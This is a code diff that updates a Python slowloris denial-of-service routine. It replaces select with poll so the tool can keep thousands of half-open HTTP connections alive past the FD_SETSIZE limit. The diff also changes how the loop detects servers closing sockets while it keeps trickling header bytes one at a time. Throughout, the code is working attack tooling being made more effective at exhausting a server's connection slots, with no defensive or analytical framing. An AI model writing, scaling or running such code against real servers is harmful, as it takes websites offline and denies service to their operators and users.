@@ -98,8 +98,13 @@ def slowloris(host, port, conns, seconds, interval):
     while time.time() < end:
         # Connects that completed get their request line; failed ones are dropped.
         if connecting:
-            _, w, _ = select.select([], list(connecting)[:1000], [], 0.2)
-            for s in w:
+            # poll, not select: thousands of sockets have descriptors above FD_SETSIZE.
+            p = select.poll()
+            by_fd = {s.fileno(): s for s in connecting}
+            for fd in by_fd:
+                p.register(fd, select.POLLOUT)
+            for fd, _ in p.poll(200):
+                s = by_fd[fd]
                 connecting.discard(s)
                 try:
                     if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
@@ -110,11 +115,15 @@ def slowloris(host, port, conns, seconds, interval):
                 except OSError:
                     pass
                 s.close()
+        p = select.poll()
+        by_fd = {s.fileno(): s for s in live}
+        for fd in by_fd:
+            p.register(fd, select.POLLIN)
+        readable = {by_fd[fd] for fd, _ in p.poll(0)}
         for s in list(live):
             try:
                 # The server closing (EOF, RST, or a response) frees the slot we held.
-                r, _, _ = select.select([s], [], [], 0)
-                if r and not s.recv(4096):
+                if s in readable and not s.recv(4096):
                     raise OSError("closed")
                 s.send(header[k % len(header):k % len(header) + 1])
             except OSError:
